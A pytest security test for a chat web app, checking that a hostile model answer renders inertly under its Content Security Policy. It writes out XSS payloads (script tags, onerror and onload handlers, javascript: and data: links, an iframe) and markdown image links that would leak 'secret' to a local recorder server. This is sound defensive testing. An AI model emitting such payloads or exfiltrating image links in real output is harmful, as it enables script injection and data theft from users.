"""A hostile answer from the model, rendered by the real page under the real CSP: nothing in it
runs, loads or navigates. Images must not even be fetched (a 'leak' server records any hit);
the one request it may see is the marker link's, clicked last to show that the clicks before
it have had every effect they could have."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from procs import free_port  # devtools/ (pytest pythonpath)

from tests.helpers import wait_until

MARKER = "/marker"  # the leak server's one page: the safe link clicked after the hostile ones


class _Recorder(BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        self.server.hits.append(self.path)
        page = (b'<!doctype html><link rel="icon" href="data:,"><title>marker</title>'
                if self.path == MARKER else b"")
        self.send_response(200 if page else 204)
        if page:
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, *args):
        pass


@pytest.fixture
def leak_server():
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), _Recorder)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def hostile_answer(leak: str) -> str:
    return "\n\n".join([
        "Here is what you asked for:",
        '<img src=x onerror="window.__pwned=1">',
        "<script>window.__pwned=2</script>",
        "[click](javascript:window.__pwned=3)",
        f"![](http://{leak}/leak?q=secret)",
        f"![tracker]({'http://' + leak + '/leak2?q=secret'} \"t\")",
        '<a href="https://example.com">ok</a>',
        "[ok](https://example.com)",
        "[mixed](JaVaScRiPt:window.__pwned=4) and [data](data:text/html,<b>x</b>)",
        f'<svg onload="window.__pwned=5"></svg> <iframe src="http://{leak}/frame"></iframe>',
        f"[marker](http://{leak}{MARKER})",
        "The end.",
    ])


def test_hostile_markdown_is_inert(page, standin, leak_server):
    leak = f"127.0.0.1:{leak_server.server_address[1]}"
    page.sign_in()
    standin.script({"action": "reply", "text": hostile_answer(leak)})
    answer = page.ask("Show me some HTML")
    assert answer.endswith("The end.")
    messages = page.testid("messages")
    body = page.last_model().locator('[data-testid="message-text"]')

    assert page.page.evaluate("() => window.__pwned") is None
    # Raw HTML is shown as text, never parsed into elements.
    for tag in ("script", "img", "iframe", "svg", "object", "embed", "style"):
        assert body.locator(tag).count() == 0, tag
    assert messages.locator("[onerror], [onload], [style], [srcdoc]").count() == 0
    assert messages.locator('img[src="x"], img[src*="leak"]').count() == 0
    assert "<script>window.__pwned=2</script>" in answer
    assert '<img src=x onerror="window.__pwned=1">' in answer

    # Links: never a javascript:/data: href; every link kept opens safely in a new tab.
    for text in ("click", "mixed", "data"):
        link = body.locator("a", has_text=text)
        assert link.count() == 1, text
        href = link.get_attribute("href")
        assert href is None or href.split(":")[0].lower() in ("http", "https", "mailto"), href
    hrefs = body.locator("a[href]")
    assert hrefs.count() >= 1
    for i in range(hrefs.count()):
        rel = (hrefs.nth(i).get_attribute("rel") or "").split()
        assert {"noopener", "noreferrer"} <= set(rel), rel
        assert hrefs.nth(i).get_attribute("target") == "_blank"
    example = body.locator('a[href^="https://example.com"]')
    assert example.count() >= 1
    # Images turn into a placeholder; their URL is never requested.
    assert body.locator(".md-image").count() == 2

    pages_before = len(page.context.pages)
    body.locator("a", has_text="click").click()
    body.locator("a", has_text="mixed").click()
    # Then the safe link: its tab, its request and its page come after anything the clicks above
    # set off (a script, a navigation, a tab, a CSP report), so once it is there, look.
    body.locator("a", has_text="marker").click()

    [marker] = wait_until(lambda: [tab for tab in page.synced().context.pages
                                   if tab.url.endswith(MARKER)], what="the marker link's tab")
    assert page.page.evaluate("() => window.__pwned") is None
    assert len(page.context.pages) == pages_before + 1  # the marker's tab, no other
    assert page.page.url.rstrip("/") == page.origin
    marker.close()

    assert [url for url in page.requests if leak in url] == [f"http://{leak}{MARKER}"]
    assert leak_server.hits == [MARKER]
    page.assert_clean()  # not even a blocked attempt reached the CSP


def test_csp_is_enforced_and_violations_are_seen(new_tab):
    """The suite's "zero CSP violations" means something: the page is served with the
    production policy, and a violation would be recorded."""
    tab = new_tab()
    csp = tab.open().headers["content-security-policy"]
    assert "script-src 'self' https://apis.google.com;" in csp
    assert "object-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert tab.csp_violations == []
    tab.page.evaluate("""() => {
        const s = document.createElement("script");
        s.textContent = "window.__inline = 1";
        document.head.append(s);
    }""")
    assert tab.page.evaluate("() => window.__inline") is None
    [violation] = wait_until(lambda: tab.synced().csp_violations, what="the violation report")
    assert violation["directive"].startswith("script-src"), violation
